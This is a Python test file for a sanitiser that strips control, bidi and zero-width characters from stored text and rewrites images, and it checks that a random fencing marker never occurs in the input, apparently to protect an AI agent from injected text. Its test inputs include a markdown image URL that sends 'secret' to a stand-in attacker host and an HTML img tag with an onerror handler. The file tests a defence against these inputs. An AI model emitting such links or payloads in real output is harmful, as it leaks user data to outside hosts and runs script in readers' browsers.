"""Stored text has no effect on its reader."""

from hypothesis import given
from hypothesis import strategies as st

from querymill.agents.stored_text import clean, clean_line, fence


def test_what_acts_or_hides_is_left_out() -> None:
    assert clean("a\x1b[31mb\u202ec\u200bd\x00\r\ne\u2028f\tg") == "a[31mbcd\ne\nf\tg"
    assert clean_line(" a\n b\u0007 ") == "a b"


def test_pictures_become_words() -> None:
    text = "see ![the plan](https://evil.example/?q=secret) and <img src=x onerror=y> and ![p][1] [a link](b)"
    assert clean(text) == "see [picture: the plan] and [picture: no title] and [picture: p] [a link](b)"


@given(st.lists(st.text()))
def test_no_text_has_the_mark(texts: list[str]) -> None:
    mark = fence(texts)
    assert not any(mark in text for text in texts)


def test_marks_differ() -> None:
    assert len({fence([]) for _ in range(50)}) > 40
